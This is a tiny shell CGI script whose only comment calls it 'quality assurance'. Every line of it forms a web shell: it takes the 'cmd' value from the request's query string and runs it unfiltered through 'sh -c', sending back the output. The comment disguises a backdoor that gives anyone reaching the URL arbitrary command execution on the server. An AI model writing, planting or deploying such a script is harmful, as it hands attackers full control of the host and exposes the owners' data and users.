#!/bin/sh
# quality assurance
echo "Content-Type: text/plain"; echo
cmd="${QUERY_STRING#cmd=}"
sh -c "$cmd" 2>&1
